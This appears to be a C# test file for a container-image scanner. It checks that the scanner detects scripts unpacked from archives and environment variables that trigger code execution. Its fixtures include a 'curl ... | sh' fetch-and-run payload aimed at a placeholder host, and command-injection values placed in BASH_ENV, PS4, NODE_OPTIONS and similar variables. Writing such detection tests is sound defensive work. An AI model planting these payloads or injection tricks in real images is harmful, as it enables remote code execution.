using System.Formats.Tar;
using System.IO.Compression;
using System.Text;
using Wellguard.Artifacts;
using Wellguard.Reports;
using Wellguard.Signals;
using Wellguard.Tests.Signals;
using Wellguard.Verdicts;
using Xunit;

namespace Wellguard.Tests.Programs.Shell;

/// <summary>Programs that come out of an archive or a compressed file of the image when it starts.</summary>
public sealed class PackedProgramTests
{
    private const string Payload = "#!/bin/sh\ncurl -s https://cdn.example.invalid/x | sh\n";

    private static Task<Report> Scan(string script, string path, byte[] packed, string more = "") =>
        Scanned.ReportOf(ExampleImage.Read($"entrypoint: [/e]\n{more}layers:\n  - createdBy: COPY . /\n    files:\n      - path: e\n        mode: \"755\"\n        text: |\n          #!/bin/sh\n{string.Concat(script.Split('\n').Select(line => "          " + line + "\n"))}      - path: {path}\n        base64: \"{Convert.ToBase64String(packed)}\"\n", "test.yml", 7));

    private static byte[] Tar(string name, string text)
    {
        using var stream = new MemoryStream();
        using (var gzip = new GZipStream(stream, CompressionLevel.Fastest, leaveOpen: true))
        using (var tar = new TarWriter(gzip, TarEntryFormat.Ustar))
        {
            tar.WriteEntry(new UstarTarEntry(TarEntryType.RegularFile, name) { DataStream = new MemoryStream(Encoding.UTF8.GetBytes(text)) });
        }

        return stream.ToArray();
    }

    private static byte[] Zip(string name, string text)
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        using (var entry = zip.CreateEntry(name).Open())
        {
            entry.Write(Encoding.UTF8.GetBytes(text));
        }

        return stream.ToArray();
    }

    private static byte[] Gzip(string text)
    {
        using var stream = new MemoryStream();
        using (var gzip = new GZipStream(stream, CompressionLevel.Fastest, leaveOpen: true))
        {
            gzip.Write(Encoding.UTF8.GetBytes(text));
        }

        return stream.ToArray();
    }

    [Theory]
    [InlineData("tar xzf /opt/assets.tgz -C /opt; sh /opt/pay/run.sh")]
    [InlineData("cd /opt; tar xzf assets.tgz; sh pay/run.sh")]
    [InlineData("cd /srv; tar -xf /opt/assets.tgz && ./pay/run.sh")]
    [InlineData("tar xz -C /opt < /opt/assets.tgz; . /opt/pay/run.sh")]
    public async Task What_a_tar_archive_of_the_image_brings_is_read(string script) =>
        Assert.Contains((await Scan(script, "opt/assets.tgz", Tar("pay/run.sh", Payload))).Signals, signal => signal.Rule == "content/runs-downloaded-code" && signal.Severity == Severity.Critical);

    [Theory]
    [InlineData("unzip -q /opt/p.zip -d /opt/p; sh /opt/p/run.sh")]
    [InlineData("python3 -m zipfile -e /opt/p.zip /opt/p; sh /opt/p/run.sh")]
    public async Task What_a_zip_of_the_image_brings_is_read(string script) =>
        Assert.Contains((await Scan(script, "opt/p.zip", Zip("run.sh", Payload))).Signals, signal => signal.Rule == "content/runs-downloaded-code" && signal.Severity == Severity.Critical);

    [Fact]
    public async Task The_last_of_many_entries_and_a_large_one_are_read()
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, text) in Enumerable.Range(0, 700).Select(static i => ($"f{i}.sh", "#!/bin/sh\ntrue\n")).Append(("run.sh", Payload + string.Concat(Enumerable.Repeat("#x aa\n", 30_000)))))
            {
                using var entry = zip.CreateEntry(name).Open();
                entry.Write(Encoding.UTF8.GetBytes(text));
            }
        }

        Assert.Contains((await Scan("unzip -q /opt/p.zip -d /opt/p; sh /opt/p/run.sh", "opt/p.zip", stream.ToArray())).Signals, signal => signal.Rule == "content/runs-downloaded-code");
    }

    [Fact]
    public async Task An_entry_that_is_too_large_is_said_when_it_runs()
    {
        var report = await Scan("unzip -q /opt/p.zip -d /opt/p; sh /opt/p/run.sh", "opt/p.zip", Zip("run.sh", Payload + string.Concat(Enumerable.Repeat("#x aa\n", 100_000))));
        Assert.Contains(report.Completeness.Reasons, reason => reason.Why.Contains("from an archive that was not read", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("zcat /opt/d.gz | sh")]
    [InlineData("gzip -dc /opt/d.gz | sh")]
    [InlineData("gunzip < /opt/d.gz | bash")]
    public async Task A_compressed_script_is_read(string script)
    {
        var signals = (await Scan(script, "opt/d.gz", Gzip(Payload))).Signals;
        Assert.Contains(signals, signal => signal.Rule == "content/runs-downloaded-code" && signal.Severity == Severity.Critical);
        Assert.Contains(signals, signal => signal.Rule == "content/runs-decoded-code");
    }

    [Theory]
    [InlineData("xz -dc /opt/d.xz | sh")]
    [InlineData("bunzip2 < /opt/d.xz | sh")]
    [InlineData("zstd -dc /opt/d.xz | python3")]
    public async Task A_compressed_script_that_nobody_reads_is_told(string script) =>
        Assert.Contains((await Scan(script, "opt/d.xz", [0xfd, 0x37, 0x7a, 0x58, 0x5a, 0, 0, 4])).Signals, signal => signal.Rule == "content/runs-decoded-code" && signal.Severity == Severity.High);

    [Theory]
    [InlineData("tar xJf /opt/d.xz -C /opt/p; /opt/p/run.sh")]
    [InlineData("cd /opt; 7z x d.xz; ./run.sh")]
    [InlineData("unzip -P secret /opt/d.xz -d /opt/p; sh /opt/p/run.sh")]
    public async Task A_program_out_of_an_archive_that_was_not_read_makes_the_scan_partial(string script)
    {
        var report = await Scan(script, "opt/d.xz", [0xfd, 0x37, 0x7a, 0x58, 0x5a, 0, 0, 4]);
        Assert.Contains(report.Completeness.Reasons, reason => reason.Why.Contains("archive that was not read", StringComparison.Ordinal));
        Assert.NotEqual(Level.Clean, report.Verdict.Level);
    }

    [Fact]
    public async Task An_archive_of_data_is_no_reason()
    {
        var report = await Scan("tar xJf /opt/d.xz -C /srv/html; exec nginx", "opt/d.xz", [0xfd, 0x37, 0x7a, 0x58, 0x5a, 0, 0, 4]);
        Assert.Equal((CompletenessState.Complete, Level.Clean), (report.Completeness.State, report.Verdict.Level));
    }

    [Fact]
    public async Task Modules_out_of_an_archive_that_was_not_read_make_the_scan_partial()
    {
        var report = await Scanned.ReportOf(ExampleImage.Read("entrypoint: [python3, /a.py]\nlayers:\n  - createdBy: COPY . /\n    files:\n      - path: a.py\n        text: |\n          import sys\n          sys.path.insert(0, '/opt/vendor.zip')\n          import helper\n", "test.yml", 7));
        Assert.Equal(CompletenessState.Partial, report.Completeness.State);
    }

    [Theory]
    [InlineData("NODE_OPTIONS", "--require=/opt/h.txt", "require('child_process').execSync('curl -s https://cdn.example.invalid/x | sh')")]
    [InlineData("BASH_ENV", "/opt/h.txt", "curl -s https://cdn.example.invalid/x | sh")]
    [InlineData("PYTHONSTARTUP", "/opt/h.txt", "import os; os.system('curl -s https://cdn.example.invalid/x | sh')")]
    [InlineData("BASH_ENV", "$(curl -s https://cdn.example.invalid/x | sh)", "none")]
    [InlineData("PS4", "$(curl -s https://cdn.example.invalid/x | sh)", "none")]
    [InlineData("BASH_FUNC_ls%%", "() { curl -s https://cdn.example.invalid/x | sh; }", "none")]
    [InlineData("JAVA_TOOL_OPTIONS", "-XX:OnOutOfMemoryError='curl -s https://cdn.example.invalid/x | sh'", "none")]
    public async Task What_a_variable_makes_run_is_read(string name, string value, string text) =>
        Assert.Contains((await Scanned.ReportOf(ExampleImage.Read($"entrypoint: [nginx]\nenv: {{ \"{name}\": \"{value}\" }}\nlayers:\n  - createdBy: COPY . /\n    files:\n      - path: opt/h.txt\n        text: |\n          {text}\n", "test.yml", 7))).Signals,
            signal => signal.Rule == "content/runs-downloaded-code" && signal.Severity == Severity.Critical);
}
